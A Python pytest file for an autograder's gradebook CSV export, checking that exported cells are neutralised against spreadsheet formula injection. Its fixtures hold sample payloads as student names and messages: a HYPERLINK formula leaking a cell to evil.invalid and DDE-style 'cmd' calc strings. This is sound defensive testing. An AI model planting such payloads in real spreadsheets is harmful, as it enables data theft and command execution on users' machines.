"""CSV formula injection (issue 9, class 6): no exported cell is a live formula.

A real gradebook (nbgrader's tables through its API, convgrade's through
``Store.write``, as grading writes them) holds students whose LMS names, ids and
emails, and items whose messages and misconceptions, start with formula characters.
Every export format is written, read back with Python's csv module, and no cell may
begin with ``= + - @``, tab, CR or NUL (also after leading spaces) unless it reads as
a number; numbers must stay numbers.
"""
from __future__ import annotations

import csv
import re
import shutil
from pathlib import Path

import pandas as pd
import pytest

from autograder.course import Course
from autograder.inert.csv_cells import FORMULA_STARTS, inert_cell, inert_frame
from autograder.pipeline.record import Store, ensure_schema
from autograder.publish import export
from autograder.records import ItemResult, SubmissionResult

ROOT = Path(__file__).resolve().parents[2]
NUMBER = re.compile(r"\s*[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?\s*")

#: {student id: (first name, last name, email)}: each an attack a spreadsheet would run.
STUDENTS = {
    "ana": ('=HYPERLINK("http://evil.invalid/?leak="&A1,"click")', "Alves", "ana@school.example"),
    "-2+3": ("+cmd|' /C calc'!A0", "-3.5", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "@evil": ("\t=1+1", "\r=1+1", "  =2+2"),
    "zed": ("-3+cmd|' /C calc'!A0", "\uff1dSUM(1)", "zed@school.example"),
}
MESSAGES = {"ana": "=1+1 was your answer", "-2+3": "-x raised ValueError", "@evil": "@here", "zed": "fine"}
MISCONCEPTIONS = {"ana": "+flipped", "-2+3": "=cmd", "@evil": None, "zed": "off_by_one"}


@pytest.fixture(scope="module")
def course(tmp_path_factory):
    from nbgrader.api import Gradebook

    root = tmp_path_factory.mktemp("csv") / "course"
    (root / "source").mkdir(parents=True)
    shutil.copy(ROOT / "autograder" / "nbgrader_config.py", root / "nbgrader_config.py")
    course = Course(root)
    ensure_schema(course.db_url)
    with Gradebook(course.db_url) as gb:
        gb.add_assignment("ps2")
        gb.add_notebook("ps2", "ps2")
        gb.add_grade_cell("test_conv2d", "ps2", "ps2", max_score=4.0, cell_type="code")
        for student, (first, last, email) in STUDENTS.items():
            gb.add_student(student, first_name=first, last_name=last, email=email)
    with Store(course) as store:
        for student in STUDENTS:
            item = ItemResult("ps2", "test_conv2d", ["ps2.conv2d"], 1.5, 4.0, 0.375, MISCONCEPTIONS[student],
                              MESSAGES[student])
            store.write(SubmissionResult(student=student, assignment="ps2", status="graded", score=1.5,
                                         max_score=4.0, items=[item], timestamp="2024-03-01 10:00:00 UTC"))
    return course


def _rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _live_formulas(rows):
    """Cells a spreadsheet would read as a formula: a formula character first (after
    leading spaces) and not a number."""
    return [cell for row in rows for cell in row
            if cell.lstrip(" ") and cell.lstrip(" ")[0] in FORMULA_STARTS and not NUMBER.fullmatch(cell)]


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_no_exported_cell_is_a_live_formula(course, tmp_path, fmt):
    rows = _rows(export.export_grades(course, fmt, tmp_path / ("%s.csv" % fmt)))
    assert _live_formulas(rows) == []
    # a carriage return in a name stays inside its cell (it once started a row of its own)
    assert len(rows) == 1 + (fmt == "canvas") + len(STUDENTS)
    cells = {cell for row in rows for cell in row}
    if fmt in ("nbgrader", "moodle"):  # the names and emails are there, neutralised, every character kept
        assert "'" + STUDENTS["ana"][0] in cells and "'" + STUDENTS["-2+3"][2] in cells
        assert "'\t=1+1" in cells and "'\r=1+1" in cells and "'  =2+2" in cells and "'\uff1dSUM(1)" in cells
    if fmt == "items":
        assert "'=1+1 was your answer" in cells and "'+flipped" in cells and "'=cmd" in cells
    if fmt != "items":
        assert "'-2+3" in cells and "'@evil" in cells  # the ids


@pytest.mark.parametrize("fmt", export.FORMATS)
def test_numbers_stay_numbers(course, tmp_path, fmt):
    frame = pd.read_csv(export.export_grades(course, fmt, tmp_path / ("%s.csv" % fmt)), keep_default_na=False)
    score = {"nbgrader": "score", "items": "score", "canvas": "ps2", "moodle": "ps2"}[fmt]
    values = frame[score].tolist()
    if fmt == "canvas":
        values = values[1:]  # the "Points Possible" row
    assert [float(v) for v in values] == [1.5] * len(STUDENTS)
    if fmt in ("nbgrader", "moodle"):
        last = "last_name" if fmt == "nbgrader" else "Last name"
        assert "-3.5" in frame[last].astype(str).tolist()  # a name that is a number is left as it is


@pytest.mark.parametrize("value, expected", [
    ('=HYPERLINK("http://x","click")', '\'=HYPERLINK("http://x","click")'),
    ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("\0=1", "'\0=1"), ("  =1", "'  =1"), ("\u00a0=1", "'\u00a0=1"), ("\uff1d1", "'\uff1d1"),
    ("-3.5", "-3.5"), ("+2", "+2"), ("-1e-3", "-1e-3"), (" 7 ", " 7 "), ("Ana", "Ana"), ("", ""),
    ("a=b", "a=b"), ("O'Neil", "O'Neil"), (-3.5, -3.5), (None, None), (True, True),
])
def test_inert_cell(value, expected):
    assert inert_cell(value) == expected


def test_inert_frame_neutralises_headers_and_text_and_keeps_dtypes():
    frame = pd.DataFrame({"=name": ["=1", "ok"], "score": [-1.5, 2.0], "n": [-1, 2]})
    inert = inert_frame(frame)
    assert list(inert.columns) == ["'=name", "score", "n"]
    assert inert["'=name"].tolist() == ["'=1", "ok"]
    assert inert["score"].tolist() == [-1.5, 2.0] and inert["n"].dtype == frame["n"].dtype
    assert frame["=name"].tolist() == ["=1", "ok"]  # a copy
